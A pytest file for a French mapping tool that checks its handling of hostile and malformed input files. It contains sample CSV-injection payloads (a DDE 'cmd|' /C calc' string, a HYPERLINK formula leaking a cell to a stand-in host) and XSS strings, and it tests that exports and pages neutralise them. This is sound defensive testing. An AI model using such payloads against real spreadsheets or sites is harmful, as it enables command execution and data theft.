"""Hostile and broken inputs (issue 14): no silent loss, no formula in exports, outputs where meant.

The corpus is ``tests/data/hostile/`` (written by ``make_hostile.py`` there).
Each kind of hostile file has one parametrised test asserting its outcome;
``couverture check`` and ``couverture diagnostic`` run on every file of the
corpus and must end with status 0, 1 or 2 and a French message, never 3,
never a traceback, never a row lost without a line in the report.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import warnings
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from couverture import cli
from couverture._safe import neutralize
from couverture.config import load_config
from couverture.errors import CouvertureWarning, InputError
from couverture.io.communes import read_communes
from couverture.io.structures import read_structures
from couverture.io.tables import read_table
from couverture.io.zones import read_zones

H = Path(__file__).parent / "data" / "hostile"
COMMUNES_13 = Path(__file__).resolve().parents[1] / "data" / "communes" / "communes-13.geojson"


@pytest.fixture(scope="module")
def communes():
    return read_communes(COMMUNES_13)


def _read(path, communes, **kw):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", CouvertureWarning)
        return read_structures(path, communes, **kw)


def _texts(frame) -> list[str]:
    return [str(p) for p in frame.attrs["rapport"].problemes]


def _run(args: list[str], capsys) -> tuple[int, str]:
    rc = cli.main(args)
    out = capsys.readouterr()
    return rc, out.out + out.err


# ----------------------------------------------------------------------------- 1. no silent loss


def test_hidden_first_sheet_is_skipped_and_the_sheet_read_is_named(communes):
    s = _read(H / "structures_feuille_masquee.xlsx", communes)
    assert s["structure_id"].tolist() == ["CS-A", "EVS-B", "CS-C", "EVS-D"]  # not OLD-1, OLD-2
    text = " ".join(_texts(s))
    assert "« Liste 2019 »" in text and "« Agréments 2025 » lue" in text and "--feuille" in text
    # the hidden sheet is still readable on request
    old = _read(H / "structures_feuille_masquee.xlsx", communes, feuille="Liste 2019")
    assert old["structure_id"].tolist() == ["OLD-1", "OLD-2"]


@pytest.mark.parametrize("feuille, ids", [(None, ["CS-A", "CS-C"]), ("EVS", ["EVS-B"]), (1, ["EVS-B"])])
def test_several_sheets_say_which_one_and_how_to_pick_another(communes, feuille, ids):
    s = _read(H / "structures_plusieurs_feuilles.xlsx", communes, feuille=feuille)
    assert s["structure_id"].tolist() == ids
    notes = [t for t in _texts(s) if "feuilles non vides" in t]
    if feuille is None:
        assert len(notes) == 1 and "« CS » lue" in notes[0] and "« EVS »" in notes[0]
        assert 'feuille="Nom"' in notes[0] and "--feuille" in notes[0]
    else:
        assert notes == []


def test_feuille_on_the_command_line(capsys):
    rc, out = _run(
        [
            "check",
            "--departement",
            "13",
            "--structures",
            str(H / "structures_plusieurs_feuilles.xlsx"),
            "--feuille",
            "EVS",
        ],
        capsys,
    )
    assert rc == 0 and "lignes lues : 1 ;" in out and "EVS) : 1" in out


@pytest.mark.parametrize(
    "name, ids, line",
    [
        ("structures_guillemet_ouvert.csv", ["CS-A", "CS-Q", "EVS-B", "CS-C", "EVS-D", "EVS-E"], 3),
        ("structures_guillemet_fin.csv", ["CS-A", "EVS-B", "CS-C"], 5),
    ],
)
def test_unclosed_quote_loses_no_row_and_names_its_line(communes, name, ids, line):
    s = _read(H / name, communes)
    assert s["structure_id"].tolist() == ids
    quotes = [p for p in s.attrs["rapport"].problemes if "guillemet ouvert" in p.raison]
    assert [p.ligne for p in quotes] == [line]
    if name == "structures_guillemet_fin.csv":
        # a real address on two lines is a quoted cell, not an unclosed quote
        assert s["Adresse"].tolist() == ["12 rue Mignet\nBP 5", "2 place de la République", "8 cours Foch"]
    else:
        assert s.loc[s["structure_id"] == "CS-Q", "nom"].item() == "Centre social du Jas"


def _data_lines(path: Path) -> int:
    """Data lines of a corpus file, counted independently of the reader."""
    suffix = path.suffix.lower()
    raw = path.read_bytes()
    if raw.startswith(b"PK"):
        wb = openpyxl.load_workbook(io.BytesIO(raw), read_only=True)
        ws = next(w for w in wb.worksheets if w.sheet_state == "visible")
        return sum(1 for r in ws.iter_rows(values_only=True) if any(v is not None for v in r)) - 1
    if suffix in {".geojson", ".json"}:
        return len(json.loads(raw)["features"])
    # every data row of the corpus starts with its identifier (CS-A;, EVS-B;...): a line that
    # continues a quoted cell of the line above ('BP 5"') does not
    text = raw.decode("utf-8-sig")
    return sum(1 for x in re.split(r"\r\n|\r|\n", text) if re.match(r"^(CS|EVS|OLD)-[A-Z0-9]+;", x))


@pytest.mark.parametrize(
    "name",
    [
        "structures_base.csv",
        "structures_guillemet_ouvert.csv",
        "structures_guillemet_fin.csv",
        "structures_fins_de_ligne_cr.csv",
        "structures_controle.csv",
        "structures_injection.csv",
        "structures_coordonnee_infinie.csv",
        "structures_coordonnees_cellule.csv",
        "structures_excel_renomme.csv",
        "structures_feuille_masquee.xlsx",
        "structures_geometries.geojson",
    ],
)
def test_rows_read_plus_rows_rejected_equal_data_lines(communes, name):
    s = _read(H / name, communes)
    rapport = s.attrs["rapport"]
    rejected_lines = {p.ligne for p in rapport.erreurs if p.ligne is not None}
    assert rapport.comptes["structures_rejetees"] == len(rejected_lines)
    assert len(s) + len(rejected_lines) == _data_lines(H / name)


def test_completeness_of_zones_polygons():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", CouvertureWarning)
        z = read_zones(H / "zones_geometries.geojson")
    rapport = z.attrs["rapport"]
    rejected = {p.ligne for p in rapport.erreurs}
    kept_lines = {2, 5}  # CS-A, and the repaired bowtie of CS-C
    assert rejected == {3, 4} and len(kept_lines) + len(rejected) == _data_lines(H / "zones_geometries.geojson")
    assert sorted(z["structure_id"]) == ["CS-A", "CS-C"]


# ----------------------------------------------------------------------------- 2. OWASP CSV injection


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+33 4 42", "'+33 4 42"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12,5", "-12,5"),
        ("-3", "-3"),
        ("Centre social", "Centre social"),
        (-4.5, -4.5),
        (None, None),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


@pytest.fixture(scope="module")
def injection_exports(tmp_path_factory):
    out = tmp_path_factory.mktemp("injection")
    for suffix in (".xlsx", ".csv"):
        assert (
            cli.main(
                [
                    "diagnostic",
                    "--departement",
                    "13",
                    "--structures",
                    str(H / "structures_injection.csv"),
                    "--out",
                    str(out / f"d{suffix}"),
                ]
            )
            == 0
        )
    return out


def test_csv_export_neutralises_formulas_in_raw_bytes(injection_exports):
    raw = (injection_exports / "d" / "structures.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    header = rows[0]
    cells = [c for r in rows[1:] for c in r]
    assert '\'=HYPERLINK("http://exemple.invalid/?v="&A1;"clic")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-1+1" in cells and "'=1+1" in cells
    assert "'+33 4 42 00 00 00" in cells and "'-2+3" in cells
    assert not any(c[:1] in "=+@\t\r" for c in cells if c)
    assert not any(c.startswith("-") and not re.fullmatch(r"-\d+(,\d+)?", c) for c in cells)
    # numbers stay numbers: the negative value as written, the coordinates unquoted
    solde = [r[header.index("Solde")] for r in rows[1:]]
    assert solde == ["-12,5", "-3", "4", "0"]
    lisez = (injection_exports / "d" / "lisez-moi.txt").read_text(encoding="utf-8-sig")
    assert "apostrophe" in lisez and "OWASP" in lisez


def test_xlsx_export_keeps_formulas_as_text(injection_exports):
    wb = openpyxl.load_workbook(injection_exports / "d.xlsx")
    ws = wb["Structures"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in risky} >= {"=1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" for c in risky)  # text, never a formula ("f")
    assert not any(c.data_type == "f" for c in cells)
    numbers = [c for c in cells if isinstance(c.value, float) and c.value < 0]
    assert all(c.data_type == "n" for c in numbers)
    readme = " ".join(str(c.value) for row in wb["Lisez-moi"].iter_rows() for c in row if c.value)
    assert "OWASP" in readme and "jamais comme une formule" in readme


# ----------------------------------------------------------------------------- 3. outputs where meant


@pytest.mark.parametrize(
    "name, key", [("config_sorties_parent.toml", "atlas"), ("config_sorties_absolu.toml", "diagnostic")]
)
def test_outputs_may_not_leave_the_toml_folder(name, key, tmp_path, capsys):
    with pytest.raises(InputError, match=rf"{name}, ligne 5 : « {key} » = .*doit rester dans le dossier.*--out"):
        load_config(H / name)
    # an explicit --out on the command line is the user's choice: accepted
    out = tmp_path / ("d.xlsx" if key == "diagnostic" else "atlas")
    config = load_config(H / name, check_outputs=False)
    assert config.atlas is None and config.diagnostic is None
    if key == "diagnostic":
        rc, _ = _run(["diagnostic", "--config", str(H / name), "--out", str(out)], capsys)
        assert rc == 0 and out.exists()


def test_outputs_resolved_against_the_toml_folder(tmp_path):
    (tmp_path / "s.csv").write_bytes((H / "structures_base.csv").read_bytes())
    (tmp_path / "a").mkdir()
    toml = tmp_path / "a" / "c.toml"
    toml.write_text(
        '[entrees]\ndepartement = "13"\nstructures = "../s.csv"\n[sorties]\natlas = "sous/atlas"\n', encoding="utf-8"
    )
    assert load_config(toml).atlas == tmp_path / "a" / "sous" / "atlas"


def test_error_names_the_users_path_not_a_temporary_one(tmp_path, capsys, monkeypatch):
    from couverture import exports

    def refuse(src, dst):  # a disk full or a permission refused while publishing the file
        raise PermissionError(13, "Permission denied", str(src))

    monkeypatch.setattr(exports.os, "replace", refuse)
    out = tmp_path / "sorties" / "d.xlsx"
    out.parent.mkdir()
    rc, text = _run(
        ["diagnostic", "--departement", "13", "--structures", str(H / "structures_base.csv"), "--out", str(out)], capsys
    )
    assert rc == 2 and f"erreur : {out} : permission refusée" in text and ".tmp" not in text


def test_user_path_replaces_a_temporary_path():
    class A:
        out = "sorties/atlas"

    assert cli._user_path("/x/sorties/.atlas.tmp-ab12/index.html", A) == "sorties/atlas"
    assert cli._user_path("/x/.d.xlsx.k3j.tmp", A) == "sorties/atlas"
    assert cli._user_path("/x/données.csv", A) == "/x/données.csv"


def test_leftovers_of_a_killed_build_are_cleaned_at_the_next_build(tmp_path):
    from couverture.atlas._site import atomic_folder

    target = tmp_path / "atlas"
    # a build killed with -9: its temporary folder stays, its process is gone
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    dead = tmp_path / ".atlas.tmp-tue"
    dead.mkdir()
    (dead / "index.html").write_text("moitié", encoding="utf-8")
    (dead / ".couverture-build.pid").write_text(str(proc.pid), encoding="ascii")
    # a build still running (this process) keeps its folder
    alive = tmp_path / ".atlas.tmp-vivant"
    alive.mkdir()
    (alive / ".couverture-build.pid").write_text(str(os.getpid()), encoding="ascii")
    other = tmp_path / ".autre.tmp-x"  # another output's folder is not ours
    other.mkdir()
    with atomic_folder(target) as tmp:
        (tmp / "index.html").write_text("v1", encoding="utf-8")
    assert not dead.exists() and alive.exists() and other.exists()
    assert not (target / ".couverture-build.pid").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".atlas.tmp-vivant", ".autre.tmp-x", "atlas"]


# ----------------------------------------------------------------------------- 4. bad values where written


@pytest.mark.parametrize(
    "name, line, key, written",
    [
        ("config_rayon_inf.toml", 5, "rayon_m", "inf"),
        ("config_rayon_1e400.toml", 5, "rayon_m", "1e400"),
        ("config_distance_nan.toml", 5, "distance_max_m", "nan"),
        ("config_distance_negative.toml", 6, "distance_max_m", "-10000"),
        ("config_scenario_inf.toml", 6, "rayon_m", "-inf"),
    ],
)
def test_absurd_distances_refused_with_file_line_key(name, line, key, written):
    with pytest.raises(
        InputError,
        match=rf"^{re.escape(name)}, ligne {line} : « {key} » doit être une distance en mètres finie et strictement positive ; reçu {re.escape(written)}",
    ):
        load_config(H / name)


def test_control_characters_cleaned_with_their_line_and_xlsx_export_works(communes, tmp_path, capsys):
    s = _read(H / "structures_controle.csv", communes)
    assert s["nom"].tolist() == ["Centre social d'Aix", "EVS d'Arles[31m", "Centre social d'Aubagne"]
    notes = [p for p in s.attrs["rapport"].avertissements if "caractère(s) de contrôle" in p.raison]
    assert [(p.ligne, p.colonne) for p in notes] == [
        (2, "Nom de la structure"),
        (3, "Nom de la structure"),
        (4, "Nom de la structure"),
    ]
    rc, text = _run(
        [
            "diagnostic",
            "--departement",
            "13",
            "--structures",
            str(H / "structures_controle.csv"),
            "--out",
            str(tmp_path / "d.xlsx"),
        ],
        capsys,
    )
    assert rc == 0, text
    wb = openpyxl.load_workbook(tmp_path / "d.xlsx")
    names = [c.value for c in wb["Structures"]["B"][1:]]
    assert "Centre social d'Aix" in names


# ----------------------------------------------------------------------------- 5. layers without CRS

NO_CRS = "pas en WGS84 : coordonnées métriques sans système déclaré"


@pytest.mark.parametrize(
    "kind, name",
    [
        ("structures", "structures_l93_sans_crs.geojson"),
        ("zones", "zones_l93_sans_crs.geojson"),
        ("communes", "communes_l93_sans_crs.geojson"),
    ],
)
def test_metric_geojson_without_crs_refused_or_read_with_crs(kind, name, communes):
    path = H / name
    read = {
        "structures": lambda **kw: read_structures(path, communes, **kw),
        "zones": lambda **kw: read_zones(path, communes=communes, **kw),
        "communes": lambda **kw: read_communes(path, **kw),
    }[kind]
    with pytest.raises(InputError, match=rf"{name} : {NO_CRS}.*--crs 2154"):
        read()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", CouvertureWarning)
        layer = read(crs=2154)
    assert layer.crs.to_epsg() == 2154
    assert np.isfinite(layer.total_bounds).all()
    if kind == "communes":
        assert len(layer) == 5 and layer.area.min() > 1e6  # square metres, not square degrees
    if kind == "structures":
        assert layer["code_insee"].tolist() == ["13001", "13004"]


def test_crs_on_the_command_line(capsys):
    args = [
        "check",
        "--communes",
        str(H / "communes_l93_sans_crs.geojson"),
        "--structures",
        str(H / "structures_base.csv"),
    ]
    rc, text = _run(args, capsys)
    assert rc == 2 and NO_CRS in text
    rc, text = _run(args + ["--crs", "2154"], capsys)
    assert rc == 0 and "unités : 5" in text
    rc, text = _run(args + ["--crs", "pas-un-crs"], capsys)
    assert rc == 2 and "système de coordonnées inconnu" in text


# ----------------------------------------------------------------------------- 6. messages


def test_geometry_collection_and_empty_geometry_reported_with_their_line(communes):
    s = _read(H / "structures_geometries.geojson", communes)
    errors = {p.ligne: p.raison for p in s.attrs["rapport"].erreurs}
    assert "GeometryCollection" in errors[3] and set(errors) == {3, 4, 5}
    with pytest.raises(
        InputError,
        match=r"communes_geometrycollection.geojson, ligne 4, colonne « geometry » : géométrie de type GeometryCollection",
    ):
        read_communes(H / "communes_geometrycollection.geojson")


def test_repaired_polygons_listed_by_line_in_check(capsys):
    rc, text = _run(
        [
            "check",
            "--departement",
            "13",
            "--structures",
            str(H / "structures_base.csv"),
            "--zones",
            str(H / "zones_geometries.geojson"),
        ],
        capsys,
    )
    assert rc == 1
    assert (
        "zones_geometries.geojson, ligne 5, colonne « geometry » : polygone invalide réparé (shapely.make_valid) : le contour se recoupe"
        in text
    )
    assert "ligne 3, colonne « geometry » : géométrie de type GeometryCollection" in text
    assert "ligne 4, colonne « geometry » : géométrie absente ou vide" in text


def test_excel_renamed_csv_read_as_excel_with_a_warning(communes):
    frame, lines = read_table(H / "structures_excel_renomme.csv")
    assert list(frame.columns)[:2] == ["N° agrément", "Nom de la structure"] and lines.tolist() == [2, 3, 4]
    assert any("classeur Excel (.xlsx) nommé « .csv »" in p.raison for p in frame.attrs["problemes"])
    with pytest.raises(
        InputError, match=r"structures_xls_renomme.csv : ce fichier est un classeur Excel ancien format \(.xls\)"
    ):
        read_table(H / "structures_xls_renomme.csv")


def test_coordinates_in_one_cell(communes):
    s = _read(H / "structures_coordonnees_cellule.csv", communes)
    assert s["code_insee"].tolist() == ["13001", "13004", "13005"]
    assert (s["localisation"] == "coordonnees").all()


def test_non_finite_coordinate_reported_with_its_column(communes):
    s = _read(H / "structures_coordonnee_infinie.csv", communes)
    assert s["structure_id"].tolist() == ["CS-A"]
    errors = [(p.ligne, p.colonne, p.raison) for p in s.attrs["rapport"].erreurs]
    assert [(line, col) for line, col, _ in errors] == [(3, "Latitude"), (4, "Longitude"), (5, "Latitude")]
    assert all("coordonnée non finie" in r for _, _, r in errors)
    assert "« 1e400 »" in errors[0][2]


# ----------------------------------------------------------------------------- 7. the whole corpus through the command line


def _command(path: Path) -> list[str]:
    name = path.name
    if name.startswith("config_"):
        return ["--config", str(path)]
    if name.startswith("zones_"):
        return ["--departement", "13", "--structures", str(H / "structures_base.csv"), "--zones", str(path)]
    if name.startswith("communes_"):
        return ["--communes", str(path), "--structures", str(H / "structures_base.csv")]
    return ["--departement", "13", "--structures", str(path)]


CORPUS = sorted(p for p in H.iterdir() if p.is_file() and p.name != "make_hostile.py" and not p.name.startswith("."))

_FRENCH = re.compile(r"Vérification des données|erreur :|Diagnostic écrit|Résultat")


def test_corpus_is_what_make_hostile_writes(tmp_path):
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_hostile", H / "make_hostile.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.HERE = tmp_path
    module.main()
    written = sorted(p.name for p in tmp_path.iterdir())
    assert written == [p.name for p in CORPUS] and len(written) >= 25
    for name in written:
        assert _content(tmp_path / name) == _content(H / name), name


def _content(path: Path):
    """Bytes of a file; for a workbook, its parts without the save time (docProps/core.xml)."""
    raw = path.read_bytes()
    if not raw.startswith(b"PK"):
        return raw
    import zipfile

    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return {n: z.read(n) for n in z.namelist() if n != "docProps/core.xml"}


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
def test_check_and_diagnostic_on_every_corpus_file(path, tmp_path, capsys):
    inputs = _command(path)
    rc, text = _run(["check", *inputs], capsys)
    assert rc in (0, 1, 2), text
    assert "Traceback" not in text and "erreur interne" not in text
    assert _FRENCH.search(text), text
    if rc in (0, 1) and not path.name.startswith("config_"):
        # every data line is accepted or reported: "lignes lues" counts both
        m = re.search(r"Structures : .*\n  lignes lues : (\d+)", text)
        if path.name.startswith("structures_"):
            assert int(m.group(1)) == _data_lines(path), text
    out = tmp_path / "d.xlsx"
    rc2, text2 = _run(["diagnostic", *inputs, "--out", str(out)], capsys)
    assert rc2 in (0, 2), text2
    assert "Traceback" not in text2 and "erreur interne" not in text2
    assert (rc2 == 0) == out.exists()
    if "sorties" in path.name:  # refused by check; accepted by diagnostic, whose --out names the output
        assert rc == 2 and rc2 == 0
    else:
        assert (rc2 == 2) == (rc == 2)


# ----------------------------------------------------------------------------- the atlas in a real browser

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")


@pytest.mark.skipif(
    not (CHROMIUM.exists() and CHROMEDRIVER.exists()),
    reason="Chromium absent : apt-get install chromium chromium-driver (test du navigateur ignoré)",
)
def test_atlas_of_hostile_names_in_a_browser(tmp_path, capsys):
    import importlib.util

    from selenium.webdriver.common.by import By

    out = tmp_path / "atlas"
    args = [
        "atlas",
        "--communes",
        str(H / "communes_l93_sans_crs.geojson"),
        "--crs",
        "2154",
        "--structures",
        str(H / "structures_noms_hostiles.csv"),
        "--out",
        str(out),
    ]
    rc, text = _run(args, capsys)
    assert rc == 0, text
    # the atlas's CSV download: formulas neutralised, checked on the raw bytes
    raw = (out / "telechargements" / "diagnostic" / "structures.csv").read_bytes()
    assert b'"\'=HYPERLINK(""http://exemple.invalid"";""x"")"' in raw
    assert b"\x00" not in raw and b";=" not in raw

    spec = importlib.util.spec_from_file_location("_browser", Path(__file__).with_name("test_atlas_browser.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    driver_gen = module.browser.__wrapped__()
    driver = next(driver_gen)
    try:
        problems = []
        for page in sorted(out.rglob("*.html")):
            problems += module._visit(driver, page, page.relative_to(out).as_posix())
            assert module._no_dialog(driver), page
        assert not problems, "\n".join(problems)
        titles = []
        for page in sorted((out / "structures").glob("*.html")):
            driver.get(page.as_uri())
            titles.append(driver.find_element(By.TAG_NAME, "h1").text)
            assert not driver.find_elements(By.CSS_SELECTOR, "main img[src='x']")
        assert "<script>alert(1)</script>" in titles
        assert '=HYPERLINK("http://exemple.invalid";"x")' in titles
        assert "Centre <img src=x onerror=alert(2)>" in titles  # the NUL removed, the markup shown as text
    finally:
        driver_gen.close()


def test_repaired_commune_contours_listed_by_line_in_check_and_diagnostic(tmp_path, capsys):
    args = ["--communes", str(H / "communes_polygone_invalide.geojson"), "--structures", str(H / "structures_base.csv")]
    rc, text = _run(["check", *args], capsys)
    expected = (
        "communes_polygone_invalide.geojson, ligne 6, colonne « geometry » : contour de la commune invalide, réparé"
    )
    assert rc == 0 and expected in text
    rc, text = _run(["diagnostic", *args, "--out", str(tmp_path / "d.xlsx")], capsys)
    assert rc == 0, text
    wb = openpyxl.load_workbook(tmp_path / "d.xlsx")
    cells = [
        str(c.value)
        for ws in wb.worksheets
        if ws.title != "Lisez-moi"
        for row in ws.iter_rows()
        for c in row
        if c.value
    ]
    assert any("contour de la commune invalide, réparé" in c for c in cells)
    assert "6" in [c for ws in wb.worksheets for row in ws.iter_rows() for c in (str(x.value) for x in row)]


@pytest.mark.parametrize("suffix", [".gpkg", ".shp", ".geojson"])
def test_completeness_of_geographic_formats(communes, tmp_path, suffix):
    import geopandas as gpd
    from shapely import Point

    # four points, one outside the territory (rejected), one without geometry (rejected)
    g = gpd.GeoDataFrame(
        {"id": ["A", "B", "C", "D"], "nom": ["a", "b", "c", "d"], "type": ["CS", "EVS", "CS", "EVS"]},
        geometry=[Point(5.4474, 43.5297), Point(4.6278, 43.6766), Point(2.35, 48.85), None],
        crs=4326,
    )
    path = tmp_path / f"s{suffix}"
    g.to_file(path)
    s = _read(path, communes)
    rejected = {p.ligne for p in s.attrs["rapport"].erreurs}
    assert s["structure_id"].tolist() == ["A", "B"] and rejected == {4, 5}
    assert len(s) + len(rejected) == len(gpd.read_file(path))
